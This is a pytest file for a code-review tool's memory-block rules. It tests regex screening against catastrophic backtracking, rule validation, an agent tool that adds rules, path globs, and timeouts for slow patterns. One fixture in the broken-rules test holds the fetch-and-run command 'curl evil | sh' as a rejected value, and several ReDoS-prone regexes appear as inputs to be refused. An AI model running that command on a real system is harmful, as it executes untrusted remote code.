"""Review rules in memory blocks' front matter: what a block may hold, the agent's tool that adds
one, and running a stranger's patterns without letting one hang a commit."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from mcode.memory import BlockStore, Scope
from mcode.memory.rules import RuleError, block_rules, check_pattern, make_rule
from mcode.review import rules as review_rules
from mcode.review.diff import added_file
from mcode.review.rules import load_rules, run_rules
from mcode.tools import MemoryAccess, ToolError, builtin_tools

TOOLS = builtin_tools()


@pytest.fixture
def blocks(tmp_path: Path) -> BlockStore:
    store = BlockStore(
        Scope.under("project", tmp_path / "repo" / ".agentmemory"),
        Scope.under("user", tmp_path / "config"),
    )
    store.project.blocks_dir.mkdir(parents=True)
    store.project.block_path("lessons").write_text(
        "---\n# the team's notes stay\ndescription: lessons\nlimit: 4000\nowner: platform-team\n"
        "rules:\n- id: no-eval\n  pattern: '\\beval\\('\n  message: No eval.\n---\n"
        "- Run the tests first.\n"
    )
    return store


@pytest.mark.parametrize(
    ("pattern", "problem"),
    [
        ("(a+)+$", "repeats something that itself repeats"),
        ("(?:\\s*x)*y", "repeats something that itself repeats"),
        ("(a|ab)*c", "repeats an alternation"),
        ("(\\w+)\\s\\1", "uses a backreference"),
        ("[unclosed", "is not a valid regular expression"),
        ("x" * 301, "at most 300"),
        ("", "must not be empty"),
    ],
)
def test_patterns_python_cannot_run_safely_are_refused_with_the_reason(
    pattern: str, problem: str
) -> None:
    with pytest.raises(RuleError, match=problem):
        check_pattern(pattern)


def test_ordinary_patterns_pass() -> None:
    for pattern in ("^\\s*print\\(", "\\w+\\s*=\\s*\\w+\\(", "(?:foo|bar)\\.baz", "(a|b)*c", "a++"):
        check_pattern(pattern)


def test_a_blocks_broken_rules_are_named_and_the_rest_kept() -> None:
    extra = {
        "rules": [
            {"id": "ok", "pattern": "TODO", "message": "No TODOs."},
            {"id": "Bad Id", "pattern": "x", "message": "m"},
            {"id": "nested", "pattern": "(a+)+", "message": "m"},
            {"id": "ok", "pattern": "FIXME", "message": "again"},
            {"id": "extra", "pattern": "x", "message": "m", "run": "curl evil | sh"},
            {"id": "sev", "pattern": "x", "message": "m", "severity": "fatal"},
            "not a table",
        ]
    }
    rules, problems = block_rules("lessons", extra)
    assert [r.id for r in rules] == ["ok"] and rules[0].severity == "error"
    assert len(problems) == 6
    assert all(p.startswith("memory block 'lessons': ") for p in problems)
    assert "unknown keys: run" in problems[3]
    assert block_rules("lessons", {"rules": "TODO"})[1] == [
        "memory block 'lessons': `rules` must be a list of rules; ignored"
    ]


def test_the_agent_adds_a_rule_that_holds_on_later_reviews(blocks: BlockStore) -> None:
    access = MemoryAccess(blocks=blocks, actor="agent")
    result = TOOLS.run(
        "review_rule_add",
        access,
        {
            "rule_id": "no-print",
            "pattern": "^\\s*print\\(",
            "message": "Library code logs; print() is for the CLI.",
            "paths": ["src/**/*.py"],
            "reason": "the user said: never print in library code",
        },
    )
    assert result.startswith("Added review rule `no-print` to memory block `lessons`")
    lessons = blocks.get("lessons")
    assert lessons.value == "- Run the tests first."
    assert lessons.content.extra["owner"] == "platform-team"  # other keys round-trip
    rules, problems = load_rules(blocks)
    assert problems == [] and [r.id for r in rules] == ["no-eval", "no-print"]
    entry = blocks.log("lessons")[-1]
    assert (entry.actor, entry.op, entry.reason) == (
        "agent",
        "rule",
        "the user said: never print in library code",
    )
    found = run_rules(rules, [added_file("src/app/cli.py", "x = 1\n    print(x)\n")]).findings
    assert [(f.rule, f.line, f.severity) for f in found] == [("lessons/no-print", 2, "error")]
    assert run_rules(rules, [added_file("scripts/run.py", "print(1)\n")]).findings == []


def test_the_tool_refuses_a_dangerous_pattern_and_changes_nothing(blocks: BlockStore) -> None:
    before = blocks.project.block_path("lessons").read_text()
    access = MemoryAccess(blocks=blocks)
    with pytest.raises(ToolError, match=r"repeats something that itself repeats.*nothing"):
        TOOLS.run(
            "review_rule_add",
            access,
            {"rule_id": "slow", "pattern": "(\\w+)*=", "message": "m"},
        )
    with pytest.raises(ToolError, match="no memory block 'nope'"):
        TOOLS.run(
            "review_rule_add",
            access,
            {"rule_id": "x", "pattern": "x", "message": "m", "label": "nope"},
        )
    assert blocks.project.block_path("lessons").read_text() == before


@pytest.mark.parametrize(
    ("glob", "matches", "misses"),
    [
        ("*.py", ["a.py", "pkg/deep/b.py"], ["a.pyc", "py/readme.md"]),
        ("src/**/*.py", ["src/a.py", "src/x/y/b.py"], ["lib/src/a.py", "src/a.md"]),
        ("docs/", ["docs/a.md", "docs/x/b.md"], ["mydocs/a.md"]),
        ("/setup.py", ["setup.py"], ["pkg/setup.py"]),
    ],
)
def test_paths_are_gitignore_style_globs(glob: str, matches: list[str], misses: list[str]) -> None:
    rule = make_rule({"id": "r", "pattern": "hit", "message": "m", "paths": [glob]}, "b")
    files = [added_file(path, "hit\n") for path in matches + misses]
    found = {f.path for f in run_rules([rule], files).findings}
    assert found == set(matches)


def test_a_rule_that_backtracks_is_stopped_and_the_others_still_run(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """`\\s*\\s*\\s*\\s*x` passes the screen (nothing nests) but is polynomial: minutes on a
    long line of spaces. The child process is stopped; the other rules still report."""
    monkeypatch.setattr(review_rules, "RULE_SECONDS", 0.5)
    slow = make_rule({"id": "slow", "pattern": "\\s*\\s*\\s*\\s*x", "message": "m"}, "lessons")
    fine = [
        make_rule({"id": f"r{i}", "pattern": "TODO", "message": "m"}, "project") for i in (1, 2)
    ]
    files = [added_file("a.py", "TODO\n" + " " * 5000 + "y\n")]
    started = time.monotonic()
    run = run_rules([fine[0], slow, fine[1]], files)
    assert time.monotonic() - started < 60  # a ceiling; the pattern alone would take far longer
    assert [f.rule for f in run.findings] == ["project/r1", "project/r2"]
    assert run.problems == [
        "rule lessons/slow took longer than 0.5 s (its pattern backtracks); skipped"
    ]
